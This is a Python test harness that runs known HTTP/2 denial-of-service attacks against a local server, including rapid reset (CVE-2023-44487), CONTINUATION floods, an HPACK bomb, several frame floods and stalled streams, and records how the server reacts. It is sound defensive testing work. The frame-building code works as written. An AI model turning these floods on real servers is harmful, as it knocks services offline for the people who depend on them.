#!/usr/bin/env python3
"""HTTP/2 attacks known from the field, as raw frames over TLS (ALPN h2),
for the tests of moat serve. Prints what the server did, one line:

    goaway CODE LAST_STREAM   the server sent GOAWAY (then the socket closed)
    closed                    the socket closed without a GOAWAY
    status CODE               the first response's :status (for 431, zero-window...)
    alive                     nothing happened within the time given

usage: h2attack.py PORT ATTACK [SECONDS]
ATTACK: rapid-reset continuation hpack-bomb settings-flood ping-flood
        window-update-flood empty-data-flood big-headers zero-window
        unfinished-body refused-streams goaway garbage
   or:  h2attack.py PORT get PATH...   (python3-h2's H2Connection: a plain
        client; prints "PATH STATUS SHA256" per stream, all on one connection)
"""
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(typ, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([typ, flags]) + struct.pack(">I", sid) + payload


class Conn:
    def __init__(self, port, settings=b""):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.s = ctx.wrap_socket(raw, server_hostname="localhost")
        if self.s.selected_alpn_protocol() != "h2":
            print("no-h2")
            sys.exit(1)
        self.enc = hpack.Encoder()
        self.buf = b""
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, b):
        self.s.sendall(b)

    def req(self, sid, path="/index.html", method="GET", end=True, extra=()):
        hdrs = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path)]
        block = self.enc.encode(hdrs + list(extra))
        return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), sid, block)

    def frames(self, deadline):
        """Yields (type, flags, sid, payload) until the socket closes or the deadline."""
        while time.time() < deadline:
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                t, f = self.buf[3], self.buf[4]
                sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                p = self.buf[9:9 + n]
                self.buf = self.buf[9 + n:]
                if t == SETTINGS and not f & 1:
                    self.send(frame(SETTINGS, 1, 0))
                yield t, f, sid, p
            self.s.settimeout(max(0.05, min(1.0, deadline - time.time())))
            try:
                d = self.s.recv(65536)
            except socket.timeout:
                continue
            except (ConnectionError, ssl.SSLError, OSError):
                yield None
                return
            if not d:
                yield None
                return
            self.buf += d
        yield "timeout"


def outcome(c, seconds, want_status=False):
    """Reads until GOAWAY/close; prints the verdict."""
    dec = hpack.Decoder()
    dec.max_allowed_table_size = 65536
    for fr in c.frames(time.time() + seconds):
        if fr is None:
            print("closed")
            return
        if fr == "timeout":
            print("alive")
            return
        t, f, sid, p = fr
        if t == GOAWAY:
            last, code = struct.unpack(">II", p[:8])
            print(f"goaway {code} {last & 0x7FFFFFFF}")
            return
        if t == HEADERS and want_status:
            for k, v in dec.decode(p):
                if k in (b":status", ":status"):
                    print(f"status {v.decode() if isinstance(v, bytes) else v}")
                    return


def h2_get(port, paths):
    import hashlib

    import h2.config
    import h2.connection
    import h2.events

    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=20),
                        server_hostname="localhost")
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    want = {}
    for p in paths:
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":path", p), (":scheme", "https"),
                                (":authority", "localhost")], end_stream=True)
        want[sid] = [p, None, hashlib.sha256()]
    s.sendall(conn.data_to_send())
    left = len(want)
    while left:
        d = s.recv(65536)
        if not d:
            break
        for ev in conn.receive_data(d):
            if isinstance(ev, h2.events.ResponseReceived):
                want[ev.stream_id][1] = dict(ev.headers)[b":status"].decode()
            elif isinstance(ev, h2.events.DataReceived):
                want[ev.stream_id][2].update(ev.data)
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)):
                left -= 1
        s.sendall(conn.data_to_send())
    for p, st, h in want.values():
        print(p, st, h.hexdigest())


def main():
    port, attack = int(sys.argv[1]), sys.argv[2]
    if attack == "get":
        return h2_get(port, sys.argv[3:])
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 10
    c = Conn(port)
    if attack == "rapid-reset":
        # CVE-2023-44487: open a stream and cancel it at once, many times
        out = b""
        for i in range(2000):
            sid = 1 + 2 * i
            out += c.req(sid) + frame(RST, 0, sid, struct.pack(">I", 8))
        c.send(out)
        outcome(c, seconds)
    elif attack == "continuation":
        # CVE-2024-28182: a HEADERS then CONTINUATION frames that never end
        c.send(frame(HEADERS, 0, 1, c.enc.encode([(":method", "GET"), (":path", "/")])))
        try:
            for i in range(5000):
                c.send(frame(CONTINUATION, 0, 1, c.enc.encode([("x-a", "b" * 100)])))
        except (ConnectionError, ssl.SSLError, OSError):
            pass
        outcome(c, seconds)
    elif attack == "hpack-bomb":
        # one 4000-byte entry in the dynamic table, then a block that
        # names it thousands of times: a few bytes that decode to megabytes
        c.send(c.req(1, extra=[("x-bomb", "a" * 4000)]))
        idx = bytes([0x80 | 62])  # the newest dynamic entry
        block = c.enc.encode([(":method", "GET"), (":scheme", "https"), (":path", "/"),
                              (":authority", "localhost")]) + idx * 16000
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, block))
        outcome(c, seconds)
    elif attack in ("settings-flood", "ping-flood", "window-update-flood", "empty-data-flood"):
        if attack == "empty-data-flood":
            c.send(c.req(1, path="/", method="POST", end=False))
        one = {"settings-flood": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)),
               "ping-flood": frame(PING, 0, 0, b"12345678"),
               "window-update-flood": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
               "empty-data-flood": frame(DATA, 0, 1)}[attack]
        try:
            for _ in range(20):
                c.send(one * 1000)
        except (ConnectionError, ssl.SSLError, OSError):
            pass
        outcome(c, seconds)
    elif attack == "big-headers":
        # a header list past the limit: 431, the connection lives on
        hdrs = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"),
                (":path", "/index.html")] + [(f"x-big-{i}", "v" * 1000) for i in range(40)]
        block = c.enc.encode(hdrs)
        parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        out = frame(HEADERS, END_STREAM, 1, parts[0])
        for i, p in enumerate(parts[1:]):
            out += frame(CONTINUATION, END_HEADERS if i == len(parts) - 2 else 0, 1, p)
        c.send(out)
        outcome(c, seconds, want_status=True)
    elif attack == "zero-window":
        # no window for the server at all, then PINGs to look busy: the
        # idle timeout must still end the connection
        c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + c.req(1, path="/big.txt"))
        end = time.time() + seconds
        while time.time() < end:
            for fr in c.frames(time.time() + 0.5):
                if fr is None:
                    print("closed")
                    return
                if fr == "timeout":
                    break
                if fr[0] == GOAWAY:
                    last, code = struct.unpack(">II", fr[3][:8])
                    print(f"goaway {code} {last}")
                    return
            try:
                c.send(frame(PING, 0, 0, b"pingping"))
            except (ConnectionError, ssl.SSLError, OSError):
                print("closed")
                return
        print("alive")
    elif attack == "unfinished-body":
        # a POST whose body never ends: answered, the stream reset with
        # NO_ERROR, then the idle timeout ends the connection
        c.send(c.req(1, path="/index.html", method="POST", end=False))
        status = rst = None
        dec = hpack.Decoder()
        for fr in c.frames(time.time() + seconds):
            if fr is None or fr == "timeout":
                break
            t, f, sid, p = fr
            if t == HEADERS:
                status = dict(dec.decode(p)).get(":status")
            if t == RST:
                rst = struct.unpack(">I", p)[0]
            if t == GOAWAY:
                break
        print(f"status {status} rst {rst} {'closed' if fr is None or fr != 'timeout' else 'alive'}")
    elif attack == "refused-streams":
        # the SETTINGS the server sent first: its stream limit
        for fr in c.frames(time.time() + seconds):
            if fr and fr != "timeout" and fr[0] == SETTINGS and not fr[1] & 1:
                p = fr[3]
                vals = {struct.unpack(">H", p[i:i + 2])[0]: struct.unpack(">I", p[i + 2:i + 6])[0]
                        for i in range(0, len(p), 6)}
                print(" ".join(f"{k}={v}" for k, v in sorted(vals.items())))
                return
    elif attack == "goaway":
        # a request, then wait: a stopping server says GOAWAY with the
        # last stream it took, and the stream still gets its answer
        c.send(c.req(1, path="/index.html"))
        got = None
        for fr in c.frames(time.time() + seconds):
            if fr is None or fr == "timeout":
                break
            if fr[0] == DATA and fr[2] == 1:
                got = "answered"
            if fr[0] == GOAWAY:
                last, code = struct.unpack(">II", fr[3][:8])
                print(f"goaway {code} {last & 0x7FFFFFFF} {got}")
                return
        print("alive" if fr == "timeout" else "closed")
    elif attack == "garbage":
        c.send(bytes(range(256)) * 4)
        outcome(c, seconds)
    else:
        print("unknown attack", file=sys.stderr)
        sys.exit(2)


if __name__ == "__main__":
    main()
